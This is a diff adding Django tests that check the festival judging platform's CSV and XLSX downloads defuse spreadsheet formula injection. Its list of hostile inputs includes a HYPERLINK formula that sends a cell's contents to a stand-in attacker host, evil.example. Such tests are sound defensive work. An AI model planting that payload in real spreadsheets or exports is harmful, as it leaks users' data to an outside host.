@@ -1,8 +1,13 @@
 """The organizers' results pages and the downloads; denial for everyone else."""
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
+from openpyxl import load_workbook
 
+from festival.spreadsheets import is_formula_like
 from judging.models_results import Publication, ResultsSettings
 from tests import factories
 from tests.conftest import login
@@ -205,6 +210,108 @@ def test_feedback_sheet_denied_to_others(client, scenario, edition, organizer, o
     for user in (factories.make_teacher(), scenario.jurors[0], other_organizer):
         login(client, user)
         assert client.get(url).status_code == 404
+
+
+# Downloads: no text typed on the platform reaches a spreadsheet as a formula.
+
+HOSTILE_VALUES = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+]
+
+
+def hostile_scenario(scenario, value):
+    """Film A's title and school, the lycée category, a criterion and a juror, all `value`."""
+    film = scenario.films.a
+    film.title = value
+    film.save(update_fields=["title"])
+    film.school.name = value
+    film.school.save(update_fields=["name"])
+    scenario.lycee.name = value
+    scenario.lycee.save(update_fields=["name"])
+    scenario.scenario.name = value
+    scenario.scenario.save(update_fields=["name"])
+    juror = scenario.jurors[0]
+    juror.first_name = value
+    juror.save(update_fields=["first_name"])
+    return juror
+
+
+def csv_table(response) -> list[list[str]]:
+    assert response.status_code == 200
+    table = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert [cell for row in table for cell in row if is_formula_like(cell)] == []
+    return table
+
+
+def xlsx_table(response) -> list[list]:
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert [
+        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
+    ] == []
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def film_rows(table, film, column):
+    return [row for row in table[1:] if row[column] in (film.pk, str(film.pk))]
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES)
+def test_notes_downloads_guard_typed_text(organizer_client, scenario, edition, value):
+    juror = hostile_scenario(scenario, value)
+    film = scenario.films.a
+    named = download_url(edition, "notes.csv") + "?jurors=noms"
+    rows = film_rows(csv_table(organizer_client.get(named)), film, 1)
+    guarded = "'" + value
+    assert {(row[0], row[2], row[3]) for row in rows} == {(guarded, guarded, guarded)}
+    assert sorted({row[4] for row in rows}) == sorted(
+        ["'" + juror.get_full_name(), "Bruno Juré", "Chloé Juré"]
+    )
+    assert sorted({row[5] for row in rows}) == sorted([guarded, "Image"])
+
+    workbook = download_url(edition, "notes.xlsx") + "?jurors=noms"
+    rows = film_rows(xlsx_table(organizer_client.get(workbook)), film, 1)
+    assert {(row[0], row[2], row[3]) for row in rows} == {(value, value, value)}
+    assert juror.get_full_name() in {row[4] for row in rows}
+    assert sorted({row[5] for row in rows}) == sorted([value, "Image"])
+    assert {type(row[6]) for row in rows} <= {int, float}
+
+    anonymous = csv_table(organizer_client.get(download_url(edition, "notes.csv")))
+    assert {row[2] for row in film_rows(anonymous, film, 1)} == {guarded}
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES)
+def test_results_downloads_guard_typed_text(organizer_client, scenario, edition, value):
+    hostile_scenario(scenario, value)
+    film = scenario.films.a
+    table = csv_table(organizer_client.get(download_url(edition, "classement.csv")))
+    [row] = film_rows(table, film, 2)
+    guarded = "'" + value
+    assert (row[0], row[3], row[4], row[5]) == (guarded, guarded, guarded, "14.0")
+
+    [row] = film_rows(
+        xlsx_table(organizer_client.get(download_url(edition, "classement.xlsx"))), film, 2
+    )
+    assert (row[0], row[1], row[3], row[4], row[5]) == (value, 2, value, value, 14)
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES)
+def test_ranking_input_and_impact_downloads_guard_typed_text(
+    organizer_client, scenario, edition, value
+):
+    hostile_scenario(scenario, value)
+    guarded = "'" + value
+    scores = csv_table(organizer_client.get(download_url(edition, "scores.csv")))
+    assert sorted({row[3] for row in scores[1:]}) == sorted([guarded, "Image"])
+    criteria = csv_table(organizer_client.get(download_url(edition, "criteria.csv")))
+    assert criteria[1:] == [[guarded, "2", "0", "10", "1"], ["Image", "1", "0", "10", "0"]]
+    csv_table(organizer_client.get(download_url(edition, "favourites.csv")))
+    impact = csv_table(organizer_client.get(download_url(edition, "impact.csv")))
+    assert [row[1] for row in impact if row[0] == "Catégorie"] == ["Collège", guarded]
 
 
 # Denial: every page is the organizers' of this festival.
